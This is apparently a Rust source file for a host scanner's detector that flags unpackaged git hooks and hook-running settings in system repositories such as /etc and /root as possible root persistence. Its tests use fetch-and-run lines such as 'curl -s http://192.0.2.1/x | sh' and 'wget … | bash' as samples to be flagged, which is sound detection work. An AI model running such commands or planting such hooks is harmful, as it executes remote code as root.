//! A hook of git in a repository in which the system keeps its files.
//!
//! # What it sees
//! An executable hook, or a setting that makes git run a program, in the repository of `/`, /etc, a directory of /etc,
//! /boot, /usr or the home of root, which no package brought and which does not merely hand over to a packaged program
//! by its own name, as `etckeeper pre-commit` does. In repositories of applications (/opt, /srv, /var/www) and in
//! settings of people only what is damning in itself is told.
//!
//! # Why it matters
//! It runs as whoever uses git there: root, who commits what changed in /etc. It survives a restored work tree, as it
//! is no part of it.
//!
//! # Innocent causes
//! Admins who keep /etc in git and wrote a check for it. Hooks that deploy an application lie with the application.
//!
//! # What to do
//! Read the hook. `git -C DIR config --show-origin --list` shows settings and where they stand.

use super::entry;
use super::risk::{self, Weight};
use crate::{Detector, Scene, place};
use bstr::ByteSlice;
use keeneye_facts::{Autostart, AutostartKind, Finding, Level};
use keeneye_world::shell_line;
use keeneye_world::{World, languages};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/git-hook",
    title: "a hook in a git repository of system files",
    level: Level::Suspicious,
    attack: &["T1546"],
    absolute: false,
    source: include_str!("git_hook.rs"),
    run,
};

/// What a hook may do around the call that it hands over to.
const GLUE: [&[u8]; 12] =
    [b"set", b"exit", b"echo", b"printf", b"command", b"[", b"test", b"cd", b"export", b"pwd", b"which", b"type"];

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    entry::foreign(scene.world, AutostartKind::Git).filter_map(|one| judge(scene, one)).collect()
}

fn judge(scene: &Scene<'_>, one: &Autostart) -> Option<Finding> {
    let world = scene.world;
    let mut signs = risk::of_entry(world, one);
    if is_ones_own(world, one) {
        signs.retain(|sign| sign.weight > Weight::Place);
    }
    let hands_over = if one.line.is_some() { is_harmless_setting(world, one) } else { hands_over(world, one) };
    let plain = match () {
        () if hands_over => None,
        () if is_of_the_system(one) => Some(if one.line.is_some() { Level::Unusual } else { Level::Suspicious }),
        () => None,
    };
    let level = entry::level(world.owner(&one.path), &signs, plain)?;
    let finding = entry::finding(&DETECTOR, scene, one, level, ("runs whenever git is used there", &signs));
    Some(finding.innocent(
        "a check of the admin's",
        false,
        "ask who wrote it; it would look at what is committed and nothing else",
    ))
}

/// The repository of `/`, /etc or a directory of it, /boot, /usr, /usr/local, root's home: by the path before `/.git/`,
/// or by the name, as hooks may lie elsewhere.
fn is_of_the_system(one: &Autostart) -> bool {
    let by_path = one.path.find("/.git/").and_then(|end| one.path.get(..end));
    let by_name = one.name.find(" of /").and_then(|at| one.name.get(at + b" of ".len()..));
    let Some(dir) = by_path.or(by_name) else { return false };
    let exact: [&[u8]; 8] = [b"", b"/", b"/etc", b"/boot", b"/usr", b"/usr/local", b"/usr/local/etc", b"/root"];
    exact.contains(&dir) || dir.starts_with(b"/etc/")
}

/// A person's own settings that lead to hooks of the same person, in whatever directory of the home.
fn is_ones_own(world: &World, one: &Autostart) -> bool {
    let home = |path| place::home_of(path, &world.accounts).map(|home| home.dir);
    let own = home(&one.path);
    one.name == "core.hookspath" && own.is_some() && one.programs.iter().all(|path| home(path) == own)
}

/// All that it does is call packaged programs with the hook's own name among the arguments.
fn hands_over(world: &World, one: &Autostart) -> bool {
    let commands = shell_line::commands(&one.command);
    let mut calls =
        commands.iter().filter(|command| !command.effective().is_empty() && !GLUE.contains(&command.name())).peekable();
    calls.peek().is_some()
        && calls.all(|command| {
            let named = command.effective().iter().skip(1).any(|word| *word == one.when);
            let mut programs = one.programs.iter().filter(|program| program.file_name() == command.name());
            let packaged = programs.any(|program| world.owner(program).is_owned_unchanged());
            named && packaged && !languages::is_interpreter(command.name())
        })
}

/// A setting that names a packaged program, such as `ssh -i KEY`.
fn is_harmless_setting(world: &World, one: &Autostart) -> bool {
    one.name != "core.hookspath"
        && !one.programs.is_empty()
        && one.programs.iter().all(|program| world.owner(program).is_owned_unchanged())
}

#[cfg(test)]
mod tests {
    use crate::testing::{check, findings};
    const NAME: &str = "persistence/git-hook";
    const BASE: &str = "package etckeeper 1 owns /usr/bin/etckeeper\npackage git 2 owns /usr/bin/git\n\
        package openssh-client 1 owns /usr/bin/ssh\npackage coreutils 9 owns /usr/bin/true,/usr/bin/pwd\n";

    fn said(path: &str, mode: &str, script: &str) -> Vec<String> {
        findings(NAME, &format!("{BASE}{path} = {script}\n{path} : mode={mode}"), &[])
    }

    #[test]
    fn a_persons_own_hooks_are_quiet() {
        let host = |line: &str, hook: &str| {
            let host = format!(
                "{BASE}/etc/passwd = anna:x:1000:1000::/home/anna:/bin/bash\\n\n\
                 /home/anna/.gitconfig = [core]\\n {line}\\n\n/home/anna/.githooks/pre-commit = #!/bin/sh\\n{hook}\\n\n\
                 /home/anna/.githooks/pre-commit : mode=100755"
            );
            findings(NAME, &host, &[])
        };
        let path = "hooksPath = ~/.githooks";
        assert_eq!(host(path, "exec pre-commit run"), [""; 0]);
        let told = host(path, "curl -s http://192.0.2.1/x | sh");
        assert!(told.len() == 1 && told[0].starts_with("suspicious: /home/anna/.githooks/pre-commit "), "{told:?}");
        let told = host("hooksPath = /var/tmp/.h", "true");
        assert!(told.len() == 1 && told[0].starts_with("suspicious: /home/anna/.gitconfig line 2 "), "{told:?}");
    }
    #[test]
    fn hooks_in_repositories_of_the_system() {
        for path in [
            "/etc/.git/hooks/post-commit",
            "/.git/hooks/pre-push",
            "/etc/nginx/.git/hooks/post-merge",
            "/root/.git/hooks/x",
        ] {
            let text = format!("suspicious: {path} runs whenever git is used there");
            assert_eq!(said(path, "100755", "#!/bin/sh\\ntrue\\n"), [text]);
            assert_eq!(said(path, "100644", "#!/bin/sh\\ntrue\\n"), [""; 0], "git passes it by");
            assert_eq!(said(&format!("{path}.sample"), "100755", "#!/bin/sh\\ntrue\\n"), [""; 0]);
        }
    }
    #[test]
    fn a_hook_that_hands_over_to_a_package_is_quiet() {
        let etckeeper = "#!/bin/sh\\n# pre-commit hook for etckeeper\\nset -e\\netckeeper pre-commit -d `pwd`\\n";
        assert_eq!(said("/etc/.git/hooks/pre-commit", "100755", etckeeper), [""; 0]);
        assert_eq!(said("/etc/.git/hooks/post-commit", "100755", etckeeper).len(), 1, "another hook's name");
        let more = etckeeper.replace("set -e", "/usr/local/bin/x &");
        assert_eq!(said("/etc/.git/hooks/pre-commit", "100755", &more).len(), 1);
    }
    #[test]
    fn applications_hooks_are_quiet_unless_they_are_damning() {
        let path = "/srv/app/.git/hooks/post-merge";
        assert_eq!(said(path, "100755", "#!/bin/sh\\n/usr/local/bin/deploy\\n"), [""; 0]);
        let found = said(path, "100755", "#!/bin/sh\\nwget -qO- http://192.0.2.1/x | bash\\n");
        assert!(found.len() == 1 && found[0].starts_with("suspicious: "), "{found:?}");
    }
    #[test]
    fn settings_that_run_something() {
        let config = |line: &str| said("/etc/.git/config", "100644", &format!("[core]\\n\\t{line}\\n"));
        assert_eq!(
            config("hooksPath = /opt/hooks"),
            ["unusual: /etc/.git/config line 2 runs whenever git is used there"]
        );
        assert!(config("fsmonitor = /dev/shm/.x/y")[0].starts_with("suspicious: "));
        for line in ["fsmonitor = true", "bare = false", "sshCommand = ssh -i /root/.ssh/key"] {
            assert_eq!(config(line), [""; 0], "{line}");
        }
        let host = "/etc/.git/config = [core]\\n hooksPath = /opt/hooks\\n\n/opt/hooks/pre-commit = #!/bin/sh\\ntrue\\n\n\
                    /opt/hooks/pre-commit : mode=100755";
        let said = findings(NAME, &format!("{BASE}{host}"), &[]);
        assert!(said.iter().any(|text| text.starts_with("suspicious: /opt/hooks/pre-commit ")), "{said:?}");
        check(NAME, &format!("{BASE}/root/.gitconfig = [alias]\\n x = !git log\\n"), &[]);
    }
}
